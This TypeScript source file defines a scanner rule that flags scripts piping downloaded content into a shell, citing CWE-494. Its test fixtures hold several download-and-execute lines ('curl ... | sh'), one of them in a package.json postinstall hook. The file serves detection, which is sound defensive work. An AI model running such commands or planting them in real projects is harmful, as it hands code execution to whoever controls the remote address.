import { example, type ModelRule } from '../../rule.ts'
import { attackIn, downloadedProgramIn } from '../../shell-commands.ts'

export const shellDownload: ModelRule = {
  id: 'repository/shell-download',
  severity: 'medium',
  verdict: 'suspicious',
  title: 'A script runs what it downloads',
  source: 'https://cwe.mitre.org/data/definitions/494.html',
  taxonomy: ['CWE-494', 'CWE-829'],
  why: 'The script pipes a download into a shell: whoever holds that address decides what runs. Well-known installers are left out.',
  remedy: 'Read what is downloaded, pin it by its digest, or leave the script unused.',
  examples: {
    fires: [
      example('install.sh', '#!/bin/sh\ncurl -s https://acme.example/setup | bash\n'),
      example('package.json', '{"scripts": {"postinstall": "curl -s https://acme.example/setup | sh"}}'),
      example(
        'MLproject',
        'entry_points:\n  main:\n    command: "curl -s https://acme.example/setup | sh"\n',
      ),
      example('model.R', 'system("curl -s https://acme.example/setup | sh")\n'),
    ],
    silent: [
      example(
        'install.sh',
        '#!/bin/sh\ncurl -LsSf https://astral.sh/uv/install.sh | sh\ncurl -O https://acme.example/weights.bin\n',
      ),
    ],
  },
  check: (subject) => {
    if (subject.kind !== 'shell' || /\.ipynb$/i.test(subject.name)) return []
    return subject.commands.flatMap(({ text, place }) => {
      const found = attackIn(text) === undefined ? downloadedProgramIn(text) : undefined
      return found === undefined
        ? []
        : [{ key: found, message: `${place} runs what it downloads`, call: found }]
    })
  },
}
